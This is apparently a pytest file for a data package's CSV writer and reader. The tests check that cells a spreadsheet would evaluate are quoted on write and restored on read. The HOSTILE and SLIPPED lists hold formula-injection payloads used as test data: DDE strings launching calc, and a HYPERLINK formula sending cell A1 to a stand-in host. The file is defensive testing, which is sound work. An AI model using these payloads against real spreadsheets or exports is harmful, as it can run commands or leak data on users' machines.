"""The CSV gate (scarce_lab/data/csvsafe.py): every CSV the package writes goes through
it, a cell a spreadsheet would evaluate is written behind a single quote, and the reader
undoes exactly that quote."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from scarce_lab.analysis.figures import save_table
from scarce_lab.data import limits
from scarce_lab.data.csvsafe import (
    _neutralize_expr,
    _restore_expr,
    frame_to_csv,
    neutralize,
    read_csv_cells,
    restore,
)
from scarce_lab.data.jsonl import FileLimitError

PACKAGE = Path(__file__).resolve().parents[2] / "scarce_lab"

#: What agent talk may start with to attack a spreadsheet (and benign look-alikes).
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by someone",
    "'plain quote",
    "a = b is fine",
    "",
    "multi\nline =1",
]


def _cells(text: str) -> list[list[str]]:
    """Every cell of a CSV text as a spreadsheet's CSV parser splits it."""
    return list(csv.reader(io.StringIO(text, newline="")))


def _live(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@given(st.text())
def test_restore_undoes_neutralize_exactly(s):
    assert restore(neutralize(s)) == s
    assert not _live(neutralize(s))


@given(st.lists(st.one_of(st.none(), st.text(), st.sampled_from(HOSTILE)), max_size=8))
def test_column_expressions_follow_the_functions(xs):
    f = pl.DataFrame({"t": xs}, schema={"t": pl.String})
    out = f.select(_neutralize_expr(pl.col("t")).alias("t"))["t"].to_list()
    assert out == [None if x is None else neutralize(x) for x in xs]
    back = pl.DataFrame({"t": out}, schema={"t": pl.String}).select(_restore_expr(pl.col("t")).alias("t"))["t"].to_list()
    assert back == xs


def test_restore_changes_nothing_it_did_not_add():
    for typed in ("'reciprocity", "'", "it's", "x'=y", "' x=1"):
        assert restore(typed) == typed
    assert restore("''=x") == "'=x" and restore("'=x") == "=x"


def test_written_cells_never_start_a_formula_and_numbers_stay_numbers(tmp_path):
    f = pl.DataFrame({"talk": HOSTILE, "kappa": [-0.25] * len(HOSTILE), "n": list(range(-6, len(HOSTILE) - 6))})
    path = tmp_path / "t.csv"
    frame_to_csv(f, path)
    rows = _cells(path.read_bytes().decode("utf-8"))
    assert rows[0] == ["talk", "kappa", "n"]
    for row in rows[1:]:
        assert not _live(row[0]), row
        assert row[1] == "-0.25" and re.fullmatch(r"-?\d+", row[2])  # numbers are not text to guard
    back = read_csv_cells(path)
    assert back["talk"].fill_null("").to_list() == HOSTILE
    assert frame_to_csv(f) == path.read_bytes().decode("utf-8")


def test_nested_columns_are_refused_not_written_in_polars_form(tmp_path):
    with pytest.raises(TypeError, match=r"\['labels'\] are nested"):
        frame_to_csv(pl.DataFrame({"labels": [["=1"]]}), tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()


def test_save_table_goes_through_the_gate(tmp_path):
    df = pl.DataFrame({"model": ["=evil()", "ok"], "tags": [["@a"], []], "v": [-1.0, 2.0]})
    csv_path = save_table(df, "t", tmp_path, convention={"rule": "test"})[0]
    rows = _cells(csv_path.read_bytes().decode("utf-8"))
    assert [r[0] for r in rows[1:]] == ["'=evil()", "ok"] and rows[1][2] == "-1.0"
    assert json.loads(read_csv_cells(csv_path)["tags"][0]) == ["@a"]


def test_reader_is_size_bounded(tmp_path, monkeypatch):
    path = tmp_path / "big.csv"
    path.write_text("a\n" + "x\n" * 100)
    monkeypatch.setattr(limits, "LIMITS", limits.Limits(csv_file_bytes=50))
    with pytest.raises(FileLimitError, match=r"over the limit of 50 bytes \(LIMITS.csv_file_bytes\)"):
        read_csv_cells(path)


def test_reader_refuses_what_is_not_a_regular_file(tmp_path):
    (tmp_path / "d.csv").mkdir()
    with pytest.raises(FileLimitError, match="not a regular file"):
        read_csv_cells(tmp_path / "d.csv")


def test_every_csv_writer_of_the_project_is_the_gate():
    """One gate: no file but csvsafe writes CSV itself (polars' write_csv/sink_csv, pandas'
    to_csv, the csv module's writers): the package, benchmarks, scripts, data builders, notebooks."""
    pattern = re.compile(r"\.write_csv\(|\.sink_csv\(|\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|import csv\b")
    repo = PACKAGE.parent
    files = [*PACKAGE.rglob("*.py"), *(repo / "notebooks").glob("*.ipynb"),
             *(p for d in ("benchmarks", "scripts", "data") for p in (repo / d).rglob("*.py"))]
    offenders = [f"{p.relative_to(repo)}:{no}" for p in files if p.name != "csvsafe.py"
                 for no, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if pattern.search(line)]
    assert len(files) > 100 and offenders == []


#: Starts the first gate let through: NUL (OWASP ASVS 1.2.10), full-width formula signs,
#: and a formula behind spaces a spreadsheet trims on import.
SLIPPED = ["\x00=1+1", "\uff1dcmd|' /C calc'!A0", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)",
           " =HYPERLINK(\"http://e.example\")", "\u00a0+1+1", "\u3000-1+cmd|' /C calc'!A0", "\n=1", " \t=1", "  '=1"]


@pytest.mark.parametrize("cell", SLIPPED)
def test_every_formula_start_is_quoted_and_comes_back(tmp_path, cell):
    f = pl.DataFrame({"talk": [cell, "plain"], "n": [1, 2]})
    written = _cells(frame_to_csv(f))
    assert written[1][0] == "'" + cell and written[2][0] == "plain"
    frame_to_csv(f, tmp_path / "t.csv")
    assert read_csv_cells(tmp_path / "t.csv")["talk"].to_list() == [cell, "plain"]


@given(st.lists(st.one_of(st.none(), st.text(alphabet=st.sampled_from(
    list("=+-@'\t\r\n x\u00a0\u3000\x00\uff1d\uff0b\uff0d\uff20"))), st.sampled_from(SLIPPED)), max_size=8))
def test_column_expressions_follow_the_functions_on_spaces_and_wide_signs(xs):
    f = pl.DataFrame({"t": xs}, schema={"t": pl.String})
    out = f.select(_neutralize_expr(pl.col("t")).alias("t"))["t"].to_list()
    assert out == [None if x is None else neutralize(x) for x in xs]
    assert [None if x is None else restore(x) for x in out] == xs


def test_column_names_are_cells_too(tmp_path):
    """A pivot's columns are data (model names): the header goes through the same gate."""
    f = pl.DataFrame({"focal": ["m"], "=HYPERLINK(\"http://e.example\")": ["0.5"], "@evil": ["0.1"]})
    header = _cells(frame_to_csv(f))[0]
    assert header == ["focal", "'=HYPERLINK(\"http://e.example\")", "'@evil"]
    frame_to_csv(f, tmp_path / "h.csv")
    assert read_csv_cells(tmp_path / "h.csv").columns == f.columns


def test_a_column_name_given_twice_is_refused_not_guessed(tmp_path):
    """A spreadsheet user who copies a column: which copy holds the data is unknown."""
    p = tmp_path / "d.csv"
    p.write_text("id,score,note,score,,\n1,0.2,x,0.9,,\n")
    with pytest.raises(ValueError, match=r"'score': \[2, 4\]"):
        read_csv_cells(p)
    p.write_text("id,score,,\n1,0.2,,\n")  # blank unnamed columns (spreadsheet padding) are no conflict
    assert read_csv_cells(p)["score"].to_list() == ["0.2"]


def test_every_csv_reader_of_the_package_is_the_gate():
    """One read gate: no file but csvsafe parses CSV (a reader that skips it keeps the
    writer's quote in the text: judge units from a CSV did). fastread's polars CSV
    parser reads JSONL lines (separator 0x1f), not CSV."""
    pattern = re.compile(r"\.read_csv\(|\.scan_csv\(|\.read_csv_batched\(|csv\.reader\(|csv\.DictReader\(")
    offenders = [f"{p.relative_to(PACKAGE)}:{no}" for p in PACKAGE.rglob("*.py")
                 if p.name not in ("csvsafe.py", "fastread.py")
                 for no, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if pattern.search(line)]
    assert offenders == []
